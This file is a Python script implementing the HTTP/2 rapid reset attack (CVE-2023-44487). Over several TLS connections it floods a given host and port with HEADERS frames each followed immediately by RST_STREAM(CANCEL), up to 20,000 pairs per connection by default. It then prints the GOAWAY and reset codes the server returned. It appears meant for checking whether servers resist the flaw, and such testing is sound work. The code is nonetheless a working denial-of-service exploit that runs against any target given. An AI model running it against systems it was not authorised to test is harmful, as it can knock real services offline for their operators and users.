#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against one TLS endpoint: HEADERS immediately followed by RST_STREAM(CANCEL).

    h2reset.py HOST PORT [--connections N] [--pairs N] [--path /]

Each connection sends up to --pairs HEADERS+RST_STREAM pairs as fast as it can, until the server closes it.
Prints one JSON object: per connection, the pairs sent before the close, the GOAWAY error code the server
sent (null when none arrived), the RST_STREAM codes it sent, and how many responses started.
"""
import argparse
import json
import socket
import ssl
import struct
import time

ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 7: "REFUSED_STREAM",
          8: "CANCEL", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def header_block(authority, path):
    block = b"\x82\x87"  # :method GET, :scheme https
    block += b"\x84" if path == "/" else b"\x04" + bytes([len(path)]) + path.encode()
    block += b"\x01" + bytes([len(authority)]) + authority.encode()
    return block


def attack(host, port, pairs, path, batch=50, wait=5.0):
    """One connection, one thread (an SSL socket must not be read and written from two threads at once)."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(socket.create_connection((host, port)), server_hostname="localhost")
    result = {"alpn": sock.selected_alpn_protocol(), "pairs_sent": 0, "goaway": None, "server_rst": {},
              "responses": 0, "closed_by_server": False, "seconds": 0.0}
    buffer = bytearray()

    def parse():
        nonlocal buffer
        acks = b""
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, flags = buffer[3], buffer[4]
            payload = bytes(buffer[9:9 + length])
            del buffer[:9 + length]
            if kind == 7 and length >= 8:
                code = int.from_bytes(payload[4:8], "big")
                result["goaway"] = ERRORS.get(code, str(code))
            elif kind == 3:
                code = ERRORS.get(int.from_bytes(payload[:4], "big"), "other")
                result["server_rst"][code] = result["server_rst"].get(code, 0) + 1
            elif kind == 1:
                result["responses"] += 1
            elif kind == 4 and not flags & 1:
                acks += frame(4, 1, 0)
        return acks

    def read(block_for):
        """Reads what has arrived (waiting up to block_for seconds for more); False once the server has closed."""
        sock.settimeout(block_for)
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    return False
                buffer.extend(data)
                acks = parse()
                if acks:
                    sock.sendall(acks)
                if block_for == 0:
                    continue
        except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
            return True
        except OSError:
            return False

    start = time.monotonic()
    sock.settimeout(5)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    block = header_block("localhost", path)
    stream = 1
    open_ = True
    while open_ and result["pairs_sent"] < pairs:
        chunk = b""
        count = min(batch, pairs - result["pairs_sent"])
        for _ in range(count):
            chunk += frame(1, 0x5, stream, block) + frame(3, 0, stream, struct.pack(">I", 8))
            stream += 2
        try:
            sock.settimeout(2)
            sock.sendall(chunk)
        except OSError:
            break
        result["pairs_sent"] += count
        open_ = read(0)
    deadline = time.monotonic() + wait
    while open_ and time.monotonic() < deadline:
        open_ = read(0.2)
    result["closed_by_server"] = not open_
    result["seconds"] = round(time.monotonic() - start, 2)
    try:
        sock.close()
    except OSError:
        pass
    return result


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--pairs", type=int, default=20000)
    parser.add_argument("--path", default="/")
    args = parser.parse_args()
    results = [attack(args.host, args.port, args.pairs, args.path) for _ in range(args.connections)]
    print(json.dumps(results))


if __name__ == "__main__":
    main()
